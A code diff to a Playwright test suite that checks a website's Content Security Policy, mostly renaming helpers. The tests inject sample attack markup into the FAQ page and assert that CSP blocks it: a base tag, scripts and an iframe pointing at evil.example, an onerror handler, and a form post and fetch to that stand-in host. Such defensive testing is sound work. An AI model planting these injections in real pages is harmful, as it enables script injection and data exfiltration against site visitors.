@@ -1,6 +1,6 @@
 import type { Page } from "@playwright/test";
 import { site } from "@/content/site";
-import { noteRefusals, refusals } from "../support/csp-violations";
+import { cspViolations, noteRefusals } from "../support/csp-violations";
 import { expect, test } from "../support/test";
 
 /** Opens a page whose HTML was changed on the way. */
@@ -15,12 +15,12 @@ async function openChanged(page: Page, route: string, change: (html: string) => 
   await page.goto(route);
 }
 
-/** The tests below provoke refusals, which the console reports. */
-const forget = (troubles: string[]) => troubles.splice(0).filter((trouble) => !trouble.includes("Content Security Policy"));
+/** The tests below provoke cspViolations, which the console reports. */
+const forget = (browserErrors: string[]) => browserErrors.splice(0).filter((error) => !error.includes("Content Security Policy"));
 
 test.beforeEach(async ({ page }) => page.addInitScript(noteRefusals));
 
-test("an inline script that was tampered with does not run, and the page is still whole", async ({ page, troubles }) => {
+test("an inline script that was tampered with does not run, and the page is still whole", async ({ page, browserErrors }) => {
   let tampered = 0;
   await openChanged(page, "/faq/", (html) =>
     html.replaceAll(/<script>(?=\(+function)/g, (script) => {
@@ -30,14 +30,14 @@ test("an inline script that was tampered with does not run, and the page is stil
   );
   await page.mouse.move(9, 9);
   expect(await page.evaluate(() => "tampered" in self)).toBe(false);
-  expect(await refusals(page)).toEqual(Array(tampered).fill("script-src-elem inline"));
+  expect(await cspViolations(page)).toEqual(Array(tampered).fill("script-src-elem inline"));
   await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-  expect(forget(troubles)).toEqual([]);
+  expect(forget(browserErrors)).toEqual([]);
 });
 
 test("nothing that was put into the page runs: scripts, handlers, styles, frames, other hosts, another base", async ({
   page,
-  troubles,
+  browserErrors,
 }) => {
   const injected = `<base href="https://evil.example/"><script>self.injected=1</script><img src="/no.png" onerror="self.injected=1">
     <script src="https://evil.example/x.js"></script><style>body{color:red}</style><iframe src="https://evil.example/"></iframe>
@@ -47,14 +47,14 @@ test("nothing that was put into the page runs: scripts, handlers, styles, frames
   await openChanged(page, "/faq/", (html) => html.replace("</main>", `${injected}</main>`));
   expect(await page.evaluate(() => ["injected" in self, document.baseURI.startsWith(location.origin)])).toEqual([false, true]);
   await expect(page.locator("#styled")).not.toHaveCSS("color", "rgb(255, 0, 0)");
-  const directives = (await refusals(page)).map((refusal) => refusal.split(" ")[0]);
+  const directives = (await cspViolations(page)).map((violation) => violation.split(" ")[0]);
   expect(directives).toEqual(
     expect.arrayContaining(["base-uri", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "frame-src"]),
   );
-  troubles.splice(0);
+  browserErrors.splice(0);
 });
 
-test("a form sends where the site says and nowhere else", async ({ page, troubles }) => {
+test("a form sends where the site says and nowhere else", async ({ page, browserErrors }) => {
   await page.goto("/faq/");
   const send = (action: string) =>
     page.evaluate((target) => {
@@ -63,22 +63,22 @@ test("a form sends where the site says and nowhere else", async ({ page, trouble
       form.submit();
     }, action);
   await send("https://evil.example/take");
-  await expect.poll(() => refusals(page)).toEqual([expect.stringMatching(/^form-action /)]);
-  expect(forget(troubles)).toEqual([]);
+  await expect.poll(() => cspViolations(page)).toEqual([expect.stringMatching(/^form-action /)]);
+  expect(forget(browserErrors)).toEqual([]);
   await page.goto("/contact/");
   await expect(page.locator("form button[type=submit]")).toHaveAttribute("formaction", /^mailto:/);
   await send(`mailto:${site.email}`);
-  expect(await refusals(page)).toEqual([]);
+  expect(await cspViolations(page)).toEqual([]);
   // With no hand behind it the browser may say, now or later, that it opens no mail program.
   await page.close();
-  expect(troubles.splice(0).filter((trouble) => !trouble.includes("a user gesture is required"))).toEqual([]);
+  expect(browserErrors.splice(0).filter((error) => !error.includes("a user gesture is required"))).toEqual([]);
 });
 
-test("background requests reach no other host", async ({ page, troubles }) => {
+test("background requests reach no other host", async ({ page, browserErrors }) => {
   await page.goto("/faq/");
   expect(await page.evaluate(() => fetch("https://evil.example/").catch((error: unknown) => String(error)))).toContain(
     "TypeError",
   );
-  expect(await refusals(page)).toEqual([expect.stringMatching(/^connect-src /)]);
-  expect(forget(troubles)).toEqual([]);
+  expect(await cspViolations(page)).toEqual([expect.stringMatching(/^connect-src /)]);
+  expect(forget(browserErrors)).toEqual([]);
 });
